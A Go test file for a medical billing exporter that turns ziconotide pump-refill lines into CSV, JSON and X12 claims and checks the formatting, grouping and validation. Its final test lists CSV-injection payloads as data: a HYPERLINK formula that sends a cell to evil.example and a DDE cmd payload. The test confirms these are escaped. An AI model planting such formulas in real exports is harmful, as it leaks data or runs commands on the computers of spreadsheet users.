package billing

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/pumpledger/pumpledger"
	"github.com/shopspring/decimal"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/billing")

// exportLines are two refills on one date: the first with an administered line
// and its JW line from one NDC, the second with nothing discarded (JZ) drawn
// from two NDCs of ziconotide; each with its 95990 service line. The second
// patient's lines come first so that the X12 claims are seen to sort by MRN.
func exportLines() []Line {
	q := decimal.RequireFromString
	return []Line{
		{DateOfService: "2026-03-02", MRN: "MRN-1002", EntryID: "5f0c6b1e-8d2a-4c1e-9a57-0b6f1d2e3c4b", Code: "J2278",
			Modifiers: []string{JZ}, Units: 500, NDC: "68118072210", NDCQty: q("5"), NDCUnit: "ML", Drug: "ziconotide",
			Description: "ziconotide 500 mcg administered (placed in the reservoir)"},
		{DateOfService: "2026-03-02", MRN: "MRN-1002", EntryID: "5f0c6b1e-8d2a-4c1e-9a57-0b6f1d2e3c4b", Code: "J2278",
			Modifiers: []string{JZ}, Units: 100, NDC: "70720072010", NDCQty: q("1"), NDCUnit: "ML", Drug: "ziconotide",
			Description: "ziconotide 100 mcg administered (placed in the reservoir)"},
		{DateOfService: "2026-03-02", MRN: "MRN-1002", EntryID: "5f0c6b1e-8d2a-4c1e-9a57-0b6f1d2e3c4b", Code: "95990",
			Units: 1, Description: `Pump refill and maintenance, "paraphrased"; see CPT`},
		{DateOfService: "2026-03-02", MRN: "MRN-1001", EntryID: "0b6f1d2e-3c4a-4c1e-9a57-5f0c6b1e8d2a", Code: "J2278",
			Modifiers: []string{}, Units: 150, NDC: "68118072210", NDCQty: q("1.5"), NDCUnit: "ML", Drug: "ziconotide",
			Description: "ziconotide 150 mcg administered (placed in the reservoir)"},
		{DateOfService: "2026-03-02", MRN: "MRN-1001", EntryID: "0b6f1d2e-3c4a-4c1e-9a57-5f0c6b1e8d2a", Code: "J2278",
			Modifiers: []string{JW}, Units: 350, NDC: "68118072210", NDCQty: q("3.5"), NDCUnit: "ML", Drug: "ziconotide",
			Description: "ziconotide 350 mcg discarded from single-dose containers (rinse and remainder)"},
		{DateOfService: "2026-03-02", MRN: "MRN-1001", EntryID: "0b6f1d2e-3c4a-4c1e-9a57-5f0c6b1e8d2a", Code: "95990",
			Modifiers: []string{}, Units: 1, Description: "Pump refill and maintenance (paraphrased; see CPT)"},
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("..", "testdata", "billing", name+".golden")
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./billing -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from %s (run go test ./billing -update if the change is intended)\ngot:\n%s\nwant:\n%s", name, path, got, want)
	}
}

func TestExportGolden(t *testing.T) {
	for _, tc := range []struct {
		name  string
		write func(*bytes.Buffer, []Line) error
	}{
		{"lines.csv", func(b *bytes.Buffer, l []Line) error { return WriteCSV(b, l) }},
		{"lines.json", func(b *bytes.Buffer, l []Line) error { return WriteJSON(b, l) }},
		{"lines.x12", func(b *bytes.Buffer, l []Line) error { return WriteX12(b, l) }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := tc.write(&b, exportLines()); err != nil {
				t.Fatal(err)
			}
			golden(t, tc.name, b.Bytes())
		})
	}
}

func TestWriteCSVRoundTrip(t *testing.T) {
	lines := exportLines()
	var b bytes.Buffer
	if err := WriteCSV(&b, lines); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(lines)+1 || strings.Join(rows[0], ",") != strings.Join(CSVHeader, ",") {
		t.Fatalf("rows = %d, header %v", len(rows), rows[0])
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for i, l := range lines {
		r := rows[i+1]
		if r[col["modifiers"]] != strings.Join(l.Modifiers, ":") || r[col["description"]] != l.Description || r[col["ndc"]] != l.NDC {
			t.Errorf("row %d = %q", i, r)
		}
		if l.NDC == "" {
			if r[col["ndc_qty"]] != "" {
				t.Errorf("row %d: ndc_qty %q on a line without NDC", i, r[col["ndc_qty"]])
			}
			continue
		}
		if q := decimal.RequireFromString(r[col["ndc_qty"]]); !q.Equal(l.NDCQty) {
			t.Errorf("row %d: ndc_qty %s, want %s", i, q, l.NDCQty)
		}
	}
}

func TestWriteCSVEmpty(t *testing.T) {
	var b bytes.Buffer
	if err := WriteCSV(&b, nil); err != nil {
		t.Fatal(err)
	}
	if got, want := b.String(), strings.Join(CSVHeader, ",")+"\n"; got != want {
		t.Errorf("empty CSV = %q, want %q", got, want)
	}
}

func TestWriteJSON(t *testing.T) {
	for _, lines := range [][]Line{nil, {}} {
		var b bytes.Buffer
		if err := WriteJSON(&b, lines); err != nil {
			t.Fatal(err)
		}
		if b.String() != "[]\n" {
			t.Errorf("WriteJSON(%#v) = %q, want []", lines, b.String())
		}
	}
	lines := exportLines()
	var b bytes.Buffer
	if err := WriteJSON(&b, lines); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), "null") {
		t.Errorf("JSON holds null:\n%s", b.String())
	}
	if lines[2].Modifiers != nil {
		t.Fatal("fixture changed: line 2 should have nil modifiers")
	}
	var raw []map[string]any
	if err := json.Unmarshal(b.Bytes(), &raw); err != nil {
		t.Fatal(err)
	}
	for i, m := range raw {
		if _, ok := m["modifiers"].([]any); !ok {
			t.Errorf("line %d: modifiers = %#v, want an array", i, m["modifiers"])
		}
		if _, ok := m["units"].(float64); !ok {
			t.Errorf("line %d: units = %#v, want a number", i, m["units"])
		}
		if q, ok := m["ndc_qty"]; ok {
			if _, isString := q.(string); !isString {
				t.Errorf("line %d: ndc_qty = %#v, want a string", i, q)
			}
		}
	}
	var back []Line
	if err := json.Unmarshal(b.Bytes(), &back); err != nil {
		t.Fatal(err)
	}
	for i := range lines {
		if !back[i].NDCQty.Equal(lines[i].NDCQty) || back[i].Units != lines[i].Units || back[i].Code != lines[i].Code {
			t.Errorf("line %d came back as %+v", i, back[i])
		}
	}
}

func TestWriteX12Structure(t *testing.T) {
	var b bytes.Buffer
	if err := WriteX12(&b, exportLines()); err != nil {
		t.Fatal(err)
	}
	segs := strings.Split(strings.TrimSuffix(b.String(), "~\n"), "~\n")
	var ids []string
	var claims []string
	lx := 0
	for _, s := range segs {
		id, _, _ := strings.Cut(s, "*")
		ids = append(ids, id)
		switch id {
		case "CLM":
			claims = append(claims, strings.Split(s, "*")[1])
			lx = 0
		case "LX":
			lx++
			if s != "LX*"+strconv.Itoa(lx) {
				t.Errorf("segment %q, want LX*%d", s, lx)
			}
		case "SV1", "DTP", "LIN", "CTP":
		default:
			t.Errorf("unexpected segment %q", s)
		}
		if strings.Contains(s, "\n") {
			t.Errorf("segment %q holds a line break", s)
		}
	}
	if got, want := strings.Join(claims, ","), "MRN-1001-20260302,MRN-1002-20260302"; got != want {
		t.Errorf("claims %s, want %s", got, want)
	}
	// Every LIN follows a DTP of its line and is followed by its CTP.
	for i, id := range ids {
		if id == "LIN" && (ids[i-1] != "DTP" || ids[i+1] != "CTP") {
			t.Errorf("LIN at %d is not between DTP and CTP: %v", i, ids)
		}
	}
	if !strings.Contains(b.String(), "SV1*HC:J2278:JW*0*UN*350***1~\nDTP*472*D8*20260302~\nLIN**N4*68118072210~\nCTP****3.5*ML~\n") {
		t.Errorf("JW line not as expected:\n%s", b.String())
	}
	if !strings.Contains(b.String(), "SV1*HC:95990*0*UN*1***1~\nDTP*472*D8*20260302~\n") {
		t.Errorf("service line not as expected:\n%s", b.String())
	}

	b.Reset()
	if err := WriteX12(&b, nil); err != nil || b.Len() != 0 {
		t.Errorf("WriteX12(nil) = %q, %v; want nothing", b.String(), err)
	}
}

func TestWriteX12ClaimsByDateThenMRN(t *testing.T) {
	l := func(date, mrn string) Line {
		return Line{DateOfService: date, MRN: mrn, Code: "95990", Units: 1}
	}
	var b bytes.Buffer
	if err := WriteX12(&b, []Line{l("2026-03-05", "A"), l("2026-03-02", "B"), l("2026-03-02", "A"), l("2026-03-05", "A")}); err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, s := range strings.Split(b.String(), "~\n") {
		if strings.HasPrefix(s, "CLM*") || strings.HasPrefix(s, "LX*") {
			got = append(got, strings.SplitN(s, "*", 3)[1])
		}
	}
	if want := "A-20260302,1,B-20260302,1,A-20260305,1,2"; strings.Join(got, ",") != want {
		t.Errorf("claims and lines %v, want %s", got, want)
	}
}

// Claims is one claim per patient and date, by date then MRN, each claim's
// lines in the order given.
func TestClaims(t *testing.T) {
	l := func(date, mrn, id string) Line {
		return Line{DateOfService: date, MRN: mrn, EntryID: id, Code: "95990", Units: 1}
	}
	claims := Claims([]Line{l("2026-03-05", "A", "1"), l("2026-03-02", "B", "2"), l("2026-03-02", "A", "3"), l("2026-03-05", "A", "4"), l("2026-03-02", "B", "5")})
	var got []string
	for _, c := range claims {
		ids := ""
		for _, x := range c.Lines {
			ids += x.EntryID
		}
		got = append(got, c.DateOfService+" "+c.MRN+" "+ids)
	}
	if want := "2026-03-02 A 3,2026-03-02 B 25,2026-03-05 A 14"; strings.Join(got, ",") != want {
		t.Errorf("claims %q, want %s", got, want)
	}
	if len(Claims(nil)) != 0 {
		t.Error("no lines make a claim")
	}
}

func TestWriteX12Refuses(t *testing.T) {
	good := Line{DateOfService: "2026-03-02", MRN: "MRN-1001", Code: "J2278", Modifiers: []string{JW}, Units: 3,
		NDC: "70720072010", NDCQty: decimal.RequireFromString("0.03"), NDCUnit: "ML"}
	for _, tc := range []struct {
		name  string
		field string
		edit  func(*Line)
	}{
		{"star in mrn", "mrn", func(l *Line) { l.MRN = "MRN*1" }},
		{"tilde in mrn", "mrn", func(l *Line) { l.MRN = "MRN~1" }},
		{"empty mrn", "mrn", func(l *Line) { l.MRN = "" }},
		{"bad date", "date_of_service", func(l *Line) { l.DateOfService = "03/02/2026" }},
		{"colon in code", "code", func(l *Line) { l.Code = "J2278:JW" }},
		{"five modifiers", "modifiers", func(l *Line) { l.Modifiers = []string{"JW", "KD", "GA", "GY", "GZ"} }},
		{"long modifier", "modifiers", func(l *Line) { l.Modifiers = []string{"JWX"} }},
		{"zero units", "units", func(l *Line) { l.Units = 0 }},
		{"10-digit ndc", "ndc", func(l *Line) { l.NDC = "7072072010" }},
		{"hyphenated ndc", "ndc", func(l *Line) { l.NDC = "70720-0720-10" }},
		{"zero qty", "ndc_qty", func(l *Line) { l.NDCQty = decimal.Zero }},
		{"four places", "ndc_qty", func(l *Line) { l.NDCQty = decimal.RequireFromString("0.0125") }},
		{"mg unit", "ndc_unit", func(l *Line) { l.NDCUnit = "MG" }},
		{"no unit", "ndc_unit", func(l *Line) { l.NDCUnit = "" }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			l := good
			tc.edit(&l)
			var b bytes.Buffer
			err := WriteX12(&b, []Line{good, l})
			if pumpledger.ErrorCode(err) != pumpledger.EINVALID {
				t.Fatalf("err = %v, want EINVALID", err)
			}
			var e *pumpledger.Error
			if !errors.As(err, &e) || e.Field != "lines[1]."+tc.field {
				t.Errorf("err = %v, want one naming lines[1].%s", err, tc.field)
			}
			if b.Len() != 0 {
				t.Errorf("wrote %q before refusing", b.String())
			}
		})
	}
	t.Run("ok", func(t *testing.T) {
		l := good
		l.NDCQty = decimal.RequireFromString("0.030")
		var b bytes.Buffer
		if err := WriteX12(&b, []Line{l}); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(b.String(), "CTP****0.03*ML~") {
			t.Errorf("got %s", b.String())
		}
	})
	t.Run("long claim id", func(t *testing.T) {
		l := good
		l.MRN = strings.Repeat("9", 30)
		if err := WriteX12(&bytes.Buffer{}, []Line{l}); pumpledger.ErrorCode(err) != pumpledger.EINVALID {
			t.Errorf("err = %v, want EINVALID", err)
		}
	})
	t.Run("too many lines", func(t *testing.T) {
		var ls []Line
		for range MaxX12LinesPerClaim + 1 {
			ls = append(ls, good)
		}
		if err := WriteX12(&bytes.Buffer{}, ls); pumpledger.ErrorCode(err) != pumpledger.EINVALID {
			t.Errorf("err = %v, want EINVALID", err)
		}
		if err := WriteX12(&bytes.Buffer{}, ls[:MaxX12LinesPerClaim]); err != nil {
			t.Errorf("%d lines: %v", MaxX12LinesPerClaim, err)
		}
	})
}

// TestWriteCSVInjection: a cell that begins with =, +, -, @, a tab or a
// carriage return reaches a spreadsheet as text, not a formula (OWASP CSV
// injection), whichever text column it is in; numbers stay numbers.
func TestWriteCSVInjection(t *testing.T) {
	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"MRN-1")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"}
	for _, e := range evil {
		l := exportLines()[0]
		l.MRN, l.Drug, l.Description, l.Code, l.NDCUnit = e, e, e, e, e
		l.Units = -7 // not a real line: a negative number stays a number
		var b bytes.Buffer
		if err := WriteCSV(&b, []Line{l}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for i, cell := range rows[1] {
			switch h := CSVHeader[i]; h {
			case "mrn", "drug", "description", "code", "ndc_unit":
				if cell != "'"+e {
					t.Errorf("%s %q written %q, want %q", h, e, cell, "'"+e)
				}
			case "units":
				if cell != "-7" {
					t.Errorf("units written %q, want -7", cell)
				}
			}
		}
	}
	for in, want := range map[string]string{"": "", "MRN-1": "MRN-1", "J2278": "J2278", "a=b": "a=b", "'=1": "'=1", "=": "'="} {
		if got := CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}
